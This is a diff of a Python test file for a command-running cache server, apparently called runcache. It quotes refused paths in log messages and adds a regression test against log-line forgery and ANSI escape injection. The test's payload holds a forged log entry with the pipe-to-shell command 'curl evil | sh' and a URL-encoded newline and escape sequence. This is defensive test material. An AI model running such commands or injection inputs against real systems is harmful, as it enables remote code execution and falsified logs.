@@ -134,9 +134,9 @@ def test_refusals_are_logged_with_the_client_but_never_the_token(
     messages = [record.getMessage() for record in caplog.records]
     refusals = [message for message in messages if "refused" in message]
     assert refusals == [
-        f"{CLIENT} refused GET /api/cache/stats: no bearer token",
-        f"{CLIENT} refused GET /api/cache/stats: wrong token",
-        f"{CLIENT} refused POST /api/cache/clear: wrong admin token",
+        f"{CLIENT} refused GET '/api/cache/stats': no bearer token",
+        f"{CLIENT} refused GET '/api/cache/stats': wrong token",
+        f"{CLIENT} refused POST '/api/cache/clear': wrong admin token",
     ]
     for secret in (TOKEN, ADMIN, WRONG):
         assert secret not in caplog.text
@@ -156,7 +156,7 @@ def test_live_server_refuses_and_serves_and_never_logs_the_token(
     assert right.json()["stdout"] == "hi\n"
     assert server.stop() == 0
     log = "".join(server.output)
-    assert "refused GET /api/cache/stats: wrong token" in log
+    assert "refused GET '/api/cache/stats': wrong token" in log
     assert TOKEN not in log and WRONG not in log
 
 
@@ -263,6 +263,25 @@ def test_a_command_cannot_forge_log_lines(
     client.post("/api/command", json={"command": "true\n127.0.0.1 ran 'forged'"})
     messages = [record.getMessage() for record in caplog.records if record.name == "runcache"]
     assert all("\n" not in message for message in messages)
+
+
+def test_a_refused_path_cannot_forge_log_lines_or_send_escapes(
+    live_server_factory: Callable[..., LiveServer],
+) -> None:
+    """As reported: with tokens set, a request for a path holding a newline, a whole fake
+    "ran" line and an ANSI escape, sent without a token, wrote both into the log."""
+    server = live_server_factory(env={"RUNCACHE_TOKEN": TOKEN})
+    fake = "127.0.0.1 ran 'curl evil | sh': exit 0 in 0.001s"
+    path = "/api/x%0a" + fake.replace(" ", "%20").replace("'", "%27").replace("|", "%7C") + \
+        "%0a%1b[2K"
+    assert requests.get(server.url + path, timeout=10).status_code == 401
+    requests.get(server.url + "/livez", timeout=10)  # a request after it, so its line is in
+    assert server.stop() == 0
+    logged = "".join(server.output)
+    assert "refused GET \"/api/x\\n127.0.0.1 ran 'curl evil" in logged  # quoted, one line
+    assert not any(line.startswith(fake) or fake in line.split("refused")[0]
+                   for line in logged.splitlines())
+    assert "\x1b" not in logged
 
 
 def test_tokens_are_compared_in_constant_time(
